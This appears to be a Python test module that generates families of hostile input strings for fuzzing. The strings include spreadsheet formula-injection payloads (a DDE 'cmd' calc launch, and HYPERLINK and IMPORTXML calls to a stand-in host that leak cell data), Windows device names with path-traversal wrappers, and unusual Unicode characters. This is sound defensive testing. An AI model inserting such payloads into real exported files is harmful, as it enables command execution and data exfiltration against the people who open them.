"""More texts that break programs: whole families of them, made by rule, so that every member is tried."""

import sys
import unicodedata

from tests.hostile_texts import HOSTILE_TEXTS

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "'", "''=", " =", "\u200b=", "＝", "﹣")
PAYLOADS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1)',
    'IMPORTXML("http://x.example","//a")',
    "DDE(1;2;3)",
    "2026-11-23",
    "49 30 901820",
)
DEVICES = ("CON", "PRN", "AUX", "NUL", *(f"{port}{number}" for port in ("COM", "LPT") for number in range(1, 10)))
WRAPPERS = ("{}", "{}.txt", "../{}", "%{}%", "${{{}}}")
SCRIPTS = ("LATIN", "GREEK", "CYRILLIC", "ARMENIAN", "HEBREW", "ARABIC", "DEVANAGARI", "BENGALI", "TAMIL", "THAI")
MORE_SCRIPTS = ("GEORGIAN", "ETHIOPIC", "KHMER", "MONGOLIAN", "TIBETAN", "HIRAGANA", "KATAKANA", "HANGUL", "CJK", "LAO")
BLANKS = [chr(one) for one in range(sys.maxunicode + 1) if unicodedata.category(chr(one)) in ("Zs", "Zl", "Zp")]
UNSEEN = [chr(one) for one in range(0x2FFFF) if unicodedata.category(chr(one)) == "Cf"]
CONTROLS = [chr(one) for one in range(0x01, 0xA0) if unicodedata.category(chr(one)) == "Cc"]


def _letters(script: str) -> str:
    named = (chr(one) for one in range(0x20, 0x30000) if unicodedata.name(chr(one), "").startswith(f"{script} "))
    found = [one for one in named if unicodedata.category(one).startswith("L")]
    return "".join(found[:12])


def _families() -> list[str]:
    return [
        *(sign + payload for sign in FORMULA_SIGNS for payload in PAYLOADS),
        *(wrapper.format(device) for device in DEVICES for wrapper in WRAPPERS),
        *(_letters(script) for script in (*SCRIPTS, *MORE_SCRIPTS)),
        *(f"a{one}b" for one in (*BLANKS, *CONTROLS)),
        *(f"a{one}b" for one in UNSEEN[:120]),
        *(f"x{chr(0x300 + one) * 20}" for one in range(0, 112, 8)),
    ]


ALL_HOSTILE_TEXTS = tuple(dict.fromkeys((*HOSTILE_TEXTS, *_families())))
"""Every text once."""
